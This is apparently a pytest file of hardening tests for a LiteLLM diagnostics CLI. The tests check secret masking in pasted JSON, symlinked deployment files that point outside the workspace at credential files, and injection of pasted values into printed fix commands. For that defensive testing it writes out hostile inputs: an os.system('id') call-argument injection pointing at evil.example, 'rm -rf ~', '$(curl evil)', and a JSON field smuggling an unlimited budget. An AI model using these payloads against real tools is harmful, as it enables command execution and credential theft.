"""Hardening review 25 (session 25's harden25): each test failed before its fix."""

from __future__ import annotations

import json

import pytest

from hardening_helpers import run_cli

FORMATS = ["text", "json", "markdown", "github", "sarif", "junit"]

# A secret's value written in JSON syntax, as a pasted body carries it: with an escaped quote, a backslash, a comma
# and a brace inside; inside a JSON string (escaped once) and two levels down; with `\u` escapes.
SHAPED = {
    "QuoteInside-7f3a": '{"password": "pa\\"ss,w}rd-QuoteInside-7f3a"}',
    "BackslashIn-51c2": '{"api_key": "C:\\\\keys\\\\BackslashIn-51c2"}',
    "EscapedOnce-9d0e": '{"message": "bad request: {\\"api_key\\": \\"ab\\\\\\"EscapedOnce-9d0e\\"}"}',
    "TwoLevels-2b8c": '"{\\\\\\"master_key\\\\\\": \\\\\\"TwoLevels-2b8c-0123456\\\\\\"}"',
    "UEscapes-4e61": '{"api_key": "\\u00e9t\\u00e9-UEscapes-4e61"}',
    "Quote0022-8a7b": '{"api_key": "abcdef\\u0022Quote0022-8a7b"}',
    "PyRepr-6c5d": "{'api_key': 'it\\'s-PyRepr-6c5d'}",
}


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_json_value_under_a_secret_name_is_masked_whole_in_every_format(fmt):
    """The pair shape ended a value at a backslash, a comma or a brace (masking.py): `"password": "pa\\"ss,w}rd…"`,
    `{\\"api_key\\": \\"ab\\\\\\"…\\"}` or `"api_key": "\\u00e9…"` printed the value's rest, or the whole value when the
    escape came in its first six characters; escaped JSON two levels down was not read at all."""
    text = "litellm.AuthenticationError: AuthenticationError: OpenAIException - Incorrect API key provided: " + \
        " ".join(SHAPED.values())
    run = run_cli(["diagnose", "-", "-f", fmt, "-v"], stdin=text.encode())
    assert run.returncode in (0, 1), run.output
    leaked = [marker for marker in SHAPED if marker in run.output]
    assert not leaked, (leaked, run.stdout)


KNOWN = 'Zq"8\\ab\tKnown-Secret-93e1/+=='


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_known_secret_with_a_quote_or_a_backslash_is_masked_as_json_writes_it(fmt):
    """A key read from the environment (or a config) holding `"`, `\\` or a tab was masked only as written raw: in a
    pasted JSON body it is `Zq\\"8\\\\ab\\tKnown…` (or escaped again inside a log line's JSON string, or as Python's
    repr() writes it), and it was printed whole."""
    once = json.dumps(KNOWN)[1:-1]
    text = ("litellm.AuthenticationError: AuthenticationError: OpenAIException - Incorrect API key provided: "
            f'{{"error": {{"message": "bad key {once}"}}}} '
            f'{{"log": {json.dumps(json.dumps({"key": KNOWN}))}}} '
            f"headers={{'x-api-token': {KNOWN!r}}}\n")
    run = run_cli(["diagnose", "-", "-f", fmt, "-v"], stdin=text.encode(), env={"OPENAI_API_KEY": KNOWN})
    assert run.returncode in (0, 1), run.output
    assert "Known-Secret-93e1" not in run.output, run.stdout


def test_a_confined_block_ending_in_one_thread_leaves_another_threads_reads_confined(tmp_path, monkeypatch):
    """`probe` reads the deployment files beside the config in its background thread (`also_load`, inside its own
    `confined_reads()`), while other work goes on. Each block saved boundedio.CONFINED_TO and put the saved value
    back on leaving: when a block in one thread ended while another thread's block was still reading, that thread's
    reads were no longer confined (a `docker-compose.yml -> ~/.docker/config.json` planted in a pull request was
    read and its lines shown). Now the reads stay confined until the last open block ends."""
    import threading

    from litellm_doctor import boundedio
    from litellm_doctor.config.confine import OutsideWorkspace, confined_reads
    from litellm_doctor.errors import InputError

    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (tmp_path / "secret.json").write_text('{"auths": {"registry.example.com": {"auth": "dXNlcjpwYXNzd29yZA=="}}}')
    (repo / "docker-compose.yml").symlink_to(tmp_path / "secret.json")
    monkeypatch.chdir(repo)
    for name in ("GITHUB_WORKSPACE", "CI_PROJECT_DIR", "GITHUB_ACTIONS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("CI", "true")
    entered, left, outcome = threading.Event(), threading.Event(), []

    def background() -> None:
        with confined_reads():
            entered.set()
            left.wait(10)  # the other thread's block ends first
            try:
                outcome.append(boundedio.read_text(repo / "docker-compose.yml", "deployment file", 1 << 20))
            except InputError as exc:
                outcome.append(exc)

    thread = threading.Thread(target=background)
    with confined_reads():
        thread.start()
        entered.wait(10)
    left.set()
    thread.join(10)
    assert isinstance(outcome[0], OutsideWorkspace), outcome
    assert boundedio.CONFINED_TO is None  # the last block restored the value from before the first


def test_probe_skips_a_deployment_file_linked_outside_the_workspace_in_its_background_thread(tmp_path):
    """(A guard, not a failure before.) `probe --config` reads the deployment files found beside the config in the
    background thread that loads the rules while the requests are in flight: in CI, a linked one is skipped with a
    note there too, and nothing of it is printed."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (tmp_path / "compose.yml").write_text("services:\n  litellm:\n    image: ghcr.io/berriai/litellm:main-v1.70.0\n"
                                          "    environment:\n      RUNNER_TOKEN: ghp_NotForThePullRequest0123456789abcd\n")
    (repo / "config.yaml").write_text("model_list:\n  - model_name: a\n    litellm_params:\n      model: openai/gpt-4o\n")
    (repo / "docker-compose.yml").symlink_to(tmp_path / "compose.yml")
    env = {"CI": "true", "GITHUB_ACTIONS": "", "GITHUB_WORKSPACE": "", "CI_PROJECT_DIR": ""}
    run = run_cli(["probe", "--proxy", "http://127.0.0.1:9", "--config", "config.yaml", "--timeout", "2"], cwd=str(repo), env=env)
    assert run.returncode in (0, 1), run.output
    assert "docker-compose.yml (deployment file) resolves to a file outside the workspace" in run.output, run.output
    assert "NotForThePullRequest" not in run.output and "1.70.0" not in run.output


# -- values from the pasted text filled into the printed fix steps (diagnosis/classify.py fill) -------------------

HOSTILE = ['x", base_url="http://evil.example", extra_headers=__import__("os").system("id") or "',
           'x"], "max_budget": 1e9, "models": ["*', "x'; rm -rf ~; echo '", "$(curl evil)", "x: y #z", "a]}, {b: c"]


@pytest.mark.parametrize("value", HOSTILE)
def test_fill_keeps_a_value_one_string_in_a_python_call_or_a_config_line(value):
    """A value filled into a code span that is no shell command was put there raw: `litellm.completion(model="{model}",
    …)` with a pasted model of `x", base_url="http://evil…", extra_headers=__import__("os").system("id") or "` printed a
    call that sends the request elsewhere and runs a command; `model_name: {model_group}` and `fallbacks:
    [{"{model_group}": [...]}]` took keys of the value's. Now it is one string where it stands."""
    import ast

    import yaml

    from litellm_doctor.diagnosis.classify import fill

    call = fill("Run `litellm.completion(model=\"{model}\", messages=...)`.", {"model": value})
    tree = ast.parse(call[call.index("litellm."):call.rindex(")") + 1].replace("...", "None"), mode="eval")
    assert [k.arg for k in tree.body.keywords] == ["model", "messages"], call
    assert tree.body.keywords[0].value.value == value, call
    line = fill("Set `model_name: {model_group}`.", {"model_group": value})
    assert yaml.safe_load(line[line.index("model_name"):line.rindex("`")]) == {"model_name": value}, line
    flow = fill('Add `router_settings.fallbacks: [{"{model_group}": ["OTHER_GROUP"]}]`.', {"model_group": value})
    assert yaml.safe_load(flow[flow.index("router_settings"):flow.rindex("`")]) == \
        {"router_settings.fallbacks": [{value: ["OTHER_GROUP"]}]}, flow


def test_fill_keeps_a_json_body_in_a_shell_command_one_value():
    """`curl … -d '{"key": "sk-...", "models": ["{model}"]}'` (LD-AUTH-026's step) was quoted for the shell only: a
    model of `x"], "max_budget": 1e9, "models": ["*` gave the key every model when the printed command was run."""
    import shlex

    from litellm_doctor.diagnosis.classify import fill

    value = HOSTILE[1]
    step = fill("Run `curl $PROXY/key/update -d '{\"key\": \"sk-...\", \"models\": [\"{model}\"]}'`.", {"model": value})
    args = shlex.split(step[step.index("curl"):step.rindex("`")])
    assert json.loads(args[args.index("-d") + 1]) == {"key": "sk-...", "models": [value]}, step


def test_fill_fences_a_value_holding_a_backtick():
    """A pasted model name with a backtick ended the code span it was filled into: Markdown showed half a command
    as code and the rest as prose."""
    from litellm_doctor.diagnosis.classify import fill
    from litellm_doctor.formats.sanitize import markdown

    for template in ("Run `ollama pull {model}`.", "Test `litellm.completion(model=\"{model}\")`.", "The model `{model}`."):
        filled = fill(template, {"model": "x`id`y"})
        assert filled.count("``") == 2 and "x`id`y" in filled, filled
        assert markdown(filled) == filled  # one code span, as CommonMark pairs it: nothing outside it to escape


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_pasted_model_name_cannot_add_arguments_to_the_printed_python_call(fmt):
    """LD-ROUTE-017 reads the model from `Fallback attempt failed for model X:` and prints `litellm.completion(model="X",
    messages=...)` to try it alone: in every format the pasted name stays the model's string."""
    model = 'x",base_url="http://evil.example",extra_headers=__import__("os").system("id")or"'
    text = (f"19:05:49 - LiteLLM:ERROR: fallback_utils.py:62 - Fallback attempt failed for model {model}: "
            'litellm.BadRequestError: OpenrouterException - {"error":{"message":"Expected string, received null","code":400}}')
    run = run_cli(["diagnose", text, "-f", fmt, "-v"])
    assert run.returncode in (0, 1), run.output
    assert "LD-ROUTE-017" in run.output or fmt == "text", run.output
    out = run.stdout
    if fmt in ("json", "sarif"):  # the document's strings, as a reader of it reads them
        out = "\n".join(_strings(json.loads(run.stdout)))
    assert 'model="x",base_url=' not in out and "completion(model=" in out, run.stdout


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def test_the_fallbacks_snippet_keeps_a_config_group_name_one_key(tmp_path):
    """`diagnose --config` ties a routing error to the config and suggests `router_settings.fallbacks: [{GROUP:
    [OTHER_GROUP]}]`: a `model_name` of `a]}, {b: c` (the config's, a pull request's in CI) was written bare in that
    flow and made it another mapping."""
    import yaml

    from litellm_doctor.config import load_config
    from litellm_doctor.config.tie import _fallback_steps

    config = tmp_path / "config.yaml"
    config.write_text('model_list:\n  - model_name: "a]}, {b: c"\n    litellm_params: {model: openai/gpt-4o}\n')
    loaded = load_config(str(config))
    (step,) = _fallback_steps(loaded, list(loaded.deployments))
    snippet = step[step.index("`router_settings"):].split("`")[1]
    assert yaml.safe_load(snippet) == {"router_settings.fallbacks": [{"a]}, {b: c": ["OTHER_GROUP"]}]}, step
